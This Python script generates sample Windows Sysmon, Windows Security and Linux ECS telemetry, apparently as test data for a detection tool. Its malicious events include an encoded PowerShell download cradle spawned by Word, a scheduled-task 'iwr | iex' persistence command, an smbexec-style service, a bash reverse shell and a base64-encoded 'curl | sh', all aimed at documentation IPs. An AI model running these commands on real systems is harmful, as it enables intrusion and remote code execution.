#!/usr/bin/env python3
"""Writes the bundled sample telemetry under samples/ (hand-written scenarios, see samples/README.md).
Deterministic: same script, same bytes."""
import base64, gzip, json, os

OUT = os.path.join(os.path.dirname(__file__), '..', 'samples')
os.makedirs(OUT, exist_ok=True)

def sysmon(rid, eid, t, data, host='WKS01.corp.example'):
    return {"Event": {"System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon", "Guid": "5770385F-C22A-43E0-BF4C-06F5698FFBD9"}},
        "EventID": eid, "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": host, "EventRecordID": rid,
        "TimeCreated": {"#attributes": {"SystemTime": t + "Z"}}}, "EventData": dict(UtcTime=t.replace('T', ' '), **data)}}

def proc(rid, t, guid, pid, image, cmd, pguid, ppid, pimage, pcmd, user='CORP\\alice', host='WKS01.corp.example'):
    return sysmon(rid, 1, t, {"ProcessGuid": guid, "ProcessId": str(pid), "Image": image, "CommandLine": cmd, "User": user,
        "CurrentDirectory": "C:\\Users\\alice\\", "IntegrityLevel": "Medium", "ParentProcessGuid": pguid, "ParentProcessId": str(ppid),
        "ParentImage": pimage, "ParentCommandLine": pcmd}, host)

W = 'C:\\Windows\\System32\\'
PS = W + 'WindowsPowerShell\\v1.0\\powershell.exe'
enc = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.50/a.ps1')".encode('utf-16le')).decode()
ev = [
    proc(1001, '2026-03-02T09:00:01.000', '{11111111-0000-0000-0000-000000000001}', 4000, 'C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE', '{11111111-0000-0000-0000-000000000000}', 600, W + 'userinit.exe', 'userinit.exe'),
    proc(1002, '2026-03-02T09:05:00.000', '{11111111-0000-0000-0000-000000000002}', 4100, 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\alice\\Downloads\\invoice.docm"', '{11111111-0000-0000-0000-000000000001}', 4000, 'C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE'),
    proc(1003, '2026-03-02T09:05:07.000', '{11111111-0000-0000-0000-000000000003}', 4200, W + 'cmd.exe', 'cmd.exe /c powershell -nop -w hidden -enc ' + enc, '{11111111-0000-0000-0000-000000000002}', 4100, 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', '"WINWORD.EXE" /n invoice.docm'),
    proc(1004, '2026-03-02T09:05:08.000', '{11111111-0000-0000-0000-000000000004}', 4300, PS, 'powershell -nop -w hidden -enc ' + enc, '{11111111-0000-0000-0000-000000000003}', 4200, W + 'cmd.exe', 'cmd.exe /c powershell -nop -w hidden -enc ...'),
    sysmon(1005, 3, '2026-03-02T09:05:09.000', {"ProcessGuid": '{11111111-0000-0000-0000-000000000004}', "ProcessId": "4300", "Image": PS, "User": "CORP\\alice", "Protocol": "tcp", "Initiated": "true",
        "SourceIp": "10.0.0.21", "SourcePort": "50112", "DestinationIp": "203.0.113.50", "DestinationHostname": "-", "DestinationPort": "4444"}),
    # a user's own terminal: must stay quiet
    proc(1006, '2026-03-02T09:10:00.000', '{11111111-0000-0000-0000-000000000005}', 4400, W + 'cmd.exe', '"C:\\Windows\\system32\\cmd.exe"', '{11111111-0000-0000-0000-000000000001}', 4000, 'C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE'),
    proc(1007, '2026-03-02T09:10:05.000', '{11111111-0000-0000-0000-000000000006}', 4500, W + 'ipconfig.exe', 'ipconfig /all', '{11111111-0000-0000-0000-000000000005}', 4400, W + 'cmd.exe', '"C:\\Windows\\system32\\cmd.exe"'),
]
srv = 'WEB01.corp.example'
ev += [
    proc(2001, '2026-03-02T10:00:00.000', '{22222222-0000-0000-0000-000000000001}', 3100, W + 'inetsrv\\w3wp.exe', 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "DefaultAppPool"', '{22222222-0000-0000-0000-000000000000}', 700, W + 'svchost.exe', 'svchost.exe -k iissvcs', user='IIS APPPOOL\\DefaultAppPool', host=srv),
    proc(2002, '2026-03-02T10:12:30.000', '{22222222-0000-0000-0000-000000000002}', 3200, W + 'cmd.exe', 'cmd.exe /c "cd /d c:\\inetpub\\wwwroot&whoami /all&net user&ipconfig /all"', '{22222222-0000-0000-0000-000000000001}', 3100, W + 'inetsrv\\w3wp.exe', 'w3wp.exe -ap "DefaultAppPool"', user='IIS APPPOOL\\DefaultAppPool', host=srv),
    proc(2003, '2026-03-02T10:12:31.000', '{22222222-0000-0000-0000-000000000003}', 3300, W + 'whoami.exe', 'whoami /all', '{22222222-0000-0000-0000-000000000002}', 3200, W + 'cmd.exe', 'cmd.exe /c ...', user='IIS APPPOOL\\DefaultAppPool', host=srv),
]
with open(os.path.join(OUT, 'windows-sysmon.json'), 'w', newline='\n') as f:
    for e in ev:
        f.write(json.dumps(e, ensure_ascii=False) + '\n')

# Security log exported flat (NXLog style), one object per line, gzip-compressed
def sec(rid, eid, t, host, **data):
    return dict(EventID=eid, Channel='Security', SourceName='Microsoft-Windows-Security-Auditing', Hostname=host, RecordNumber=rid,
                **{'@timestamp': t + 'Z'}, **data)
task_xml = ('<?xml version="1.0" encoding="UTF-16"?><Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Actions Context="Author">'
            '<Exec><Command>C:\\Windows\\System32\\cmd.exe</Command><Arguments>/c powershell -w hidden -c "iwr http://203.0.113.50/u.ps1|iex"</Arguments></Exec></Actions></Task>')
secev = [
    sec(5001, 4624, '2026-03-03T02:00:00.000', 'SRV02.corp.example', TargetUserName='svc_backup', TargetDomainName='CORP', TargetLogonId='0x5a1f2', LogonType='3', IpAddress='10.0.0.99', ElevatedToken='%%1842'),
    sec(5002, 4688, '2026-03-03T02:00:05.000', 'SRV02.corp.example', SubjectUserName='svc_backup', SubjectDomainName='CORP', SubjectLogonId='0x5a1f2',
        NewProcessId='0x1a0', NewProcessName=W + 'schtasks.exe', ProcessId='0x2f0', ParentProcessName=W + 'cmd.exe',
        CommandLine='schtasks /create /tn "\\Microsoft\\Windows\\Maintenance\\Updater" /sc minute /mo 30 /ru SYSTEM /tr "cmd.exe /c powershell -w hidden -c iwr http://203.0.113.50/u.ps1|iex"',
        TargetUserName='-', TargetDomainName='-', TargetLogonId='0x0', MandatoryLabel='S-1-16-12288', TokenElevationType='%%1937'),
    sec(5003, 4698, '2026-03-03T02:00:05.500', 'SRV02.corp.example', SubjectUserName='svc_backup', SubjectDomainName='CORP', SubjectLogonId='0x5a1f2',
        TaskName='\\Microsoft\\Windows\\Maintenance\\Updater', TaskContent=task_xml),
    sec(5004, 4688, '2026-03-03T02:30:00.000', 'SRV02.corp.example', SubjectUserName='SRV02$', SubjectDomainName='CORP', SubjectLogonId='0x3e7',
        NewProcessId='0x2b4', NewProcessName=W + 'cmd.exe', ProcessId='0x3c8', ParentProcessName=W + 'svchost.exe',
        CommandLine='cmd.exe /c powershell -w hidden -c iwr http://203.0.113.50/u.ps1|iex', TargetUserName='-', TargetDomainName='-', TargetLogonId='0x0', MandatoryLabel='S-1-16-16384'),
    sec(5005, 4697, '2026-03-03T03:00:00.000', 'SRV02.corp.example', SubjectUserName='svc_backup', SubjectDomainName='CORP', ServiceName='WinSvcHelper',
        ServiceFileName='%COMSPEC% /Q /c echo whoami ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat & %COMSPEC% /Q /c %TEMP%\\execute.bat & del %TEMP%\\execute.bat', ServiceStartType='3', ServiceAccount='LocalSystem'),
    # routine administration: must stay quiet
    sec(5006, 4688, '2026-03-03T08:00:00.000', 'SRV02.corp.example', SubjectUserName='alice', SubjectDomainName='CORP', SubjectLogonId='0x9f1',
        NewProcessId='0x500', NewProcessName=W + 'gpupdate.exe', ProcessId='0x4f0', ParentProcessName=W + 'cmd.exe', CommandLine='gpupdate /force', TargetUserName='-', TargetDomainName='-', TargetLogonId='0x0'),
]
with gzip.GzipFile(os.path.join(OUT, 'windows-security.jsonl.gz'), 'wb', mtime=0) as g:
    for e in secev:
        g.write((json.dumps(e) + '\n').encode())

# Linux endpoint documents in Elastic Common Schema (as Auditbeat/Elastic Agent write them)
def ecs(t, pid, exe, args, ppid, pexe, pargs, user='www-data', host='web-lnx01', etype='start'):
    return {"@timestamp": t + 'Z', "ecs": {"version": "8.11.0"}, "host": {"name": host, "os": {"type": "linux"}},
            "event": {"category": ["process"], "type": [etype], "action": "exec"}, "user": {"name": user},
            "process": {"pid": pid, "executable": exe, "args": args, "command_line": ' '.join(args), "working_directory": '/var/www/html',
                        "parent": {"pid": ppid, "executable": pexe, "args": pargs, "command_line": ' '.join(pargs)}}}
lnx = [
    ecs('2026-03-04T11:00:00.000', 8100, '/usr/sbin/nginx', ['nginx:', 'worker', 'process'], 1200, '/usr/sbin/nginx', ['nginx:', 'master', 'process']),
    ecs('2026-03-04T11:20:00.000', 8200, '/bin/sh', ['/bin/sh', '-c', 'bash -c "bash -i >& /dev/tcp/198.51.100.7/443 0>&1"'], 8100, '/usr/sbin/nginx', ['nginx:', 'worker', 'process']),
    ecs('2026-03-04T11:21:00.000', 8300, '/bin/sh', ['/bin/sh', '-c', 'echo Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC43L3guc2ggfCBzaA== | base64 -d | sh'], 1, '/usr/sbin/cron', ['/usr/sbin/cron', '-f'], user='root'),
    # stock cron job and an administrator's terminal: must stay quiet
    ecs('2026-03-04T06:25:00.000', 7100, '/bin/sh', ['/bin/sh', '-c', 'test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )'], 1, '/usr/sbin/cron', ['/usr/sbin/cron', '-f'], user='root'),
    ecs('2026-03-04T12:00:00.000', 9100, '/usr/bin/bash', ['bash', '-c', 'grep -r "error" /var/log/nginx | sort | uniq -c | sort -rn | head'], 9000, '/usr/bin/bash', ['-bash'], user='alice'),
]
with open(os.path.join(OUT, 'linux-ecs.ndjson'), 'w', newline='\n') as f:
    for e in lnx:
        f.write(json.dumps(e) + '\n')
